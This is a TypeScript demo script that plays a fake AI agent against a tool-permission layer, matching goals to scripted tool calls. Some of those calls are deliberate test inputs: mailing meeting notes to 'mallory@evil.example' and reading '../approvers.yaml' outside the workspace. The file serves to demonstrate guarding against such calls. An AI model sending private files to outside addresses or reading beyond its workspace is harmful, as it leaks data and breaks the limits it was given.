/** The demo’s play. Each part reacts to the real tool results; goals that it does not know get an honest answer. */
import type { Conversation, Reply, Scenario } from './scenario.ts';
import { LABEL, call, say } from './scenario.ts';

interface Part {
  readonly name: string;
  readonly matches: RegExp;
  readonly play: Scenario;
}

const PARTS: readonly Part[] = [
  { name: 'read the meeting notes', matches: /read the meeting notes/i, play: readNotes },
  {
    name: 'mail the meeting notes to Alice',
    matches: /mail the meeting notes to alice/i,
    play: mailTo('alice@partner.example', 'Meeting notes'),
  },
  {
    name: 'mail the meeting notes to a stranger',
    matches: /mail .* to .*(stranger|mallory)/i,
    play: mailTo('mallory@evil.example', 'Meeting notes'),
  },
  {
    name: 'mail the reception',
    matches: /mail .* reception/i,
    play: mailTo('reception@example.com', 'A visitor is coming'),
  },
  {
    name: 'mail the meeting notes to Bob',
    matches: /mail the meeting notes to bob/i,
    play: mailTo('bob@example.com', 'Meeting notes'),
  },
  { name: 'delete the old drafts', matches: /delete the old drafts/i, play: deleteDrafts },
];

export const demoScenario: Scenario = (conversation) => {
  const part = PARTS.find(({ matches }) => matches.test(conversation.goal));
  return part === undefined ? offScript() : part.play(conversation);
};

function offScript(): Reply {
  const known = PARTS.map(({ name }) => `“${name}”`).join(', ');
  return say(
    `No model is thinking here: I only play a script, and it knows these goals: ${known}. With ANTHROPIC_API_KEY set, Claude answers.`,
  );
}

function readNotes({ results }: Conversation): Reply {
  const [listing, notes, outside] = results;
  if (listing === undefined) return call('list_files', { path: 'notes' });
  if (notes === undefined) return call('read_file', { path: 'notes/meeting.md' });
  if (outside === undefined) return call('read_file', { path: '../approvers.yaml' });
  return say(
    `The notes begin: “${firstLine(notes)}”. I also tried to read ../approvers.yaml, outside my workspace, and was told: ${outside}`,
  );
}

function mailTo(recipient: string, subject: string): Scenario {
  return ({ results }) => {
    const [notes, sent] = results;
    if (notes === undefined) return call('read_file', { path: 'notes/meeting.md' });
    if (sent === undefined)
      return call('send_email', { to: [recipient], subject, body: `Hello,\n\nhere are the notes.\n\n${notes}\n` });
    return say(`About the mail to ${recipient} I was told: ${sent}`);
  };
}

function deleteDrafts({ results }: Conversation): Reply {
  const [listing, deleted] = results;
  if (listing === undefined) return call('list_files', { path: 'drafts' });
  const paths = [...listing.matchAll(/^(\S+\.md) \(/gm)].map(([, name]) => `drafts/${name ?? ''}`);
  if (paths.length === 0) return say(`I saw no drafts to delete. The folder says: ${listing}`);
  if (deleted === undefined) return call('delete_files', { paths });
  return say(`About deleting ${paths.join(', ')} I was told: ${deleted}`);
}

function firstLine(text: string): string {
  return text.split('\n').find((line) => line.trim() !== '') ?? LABEL;
}
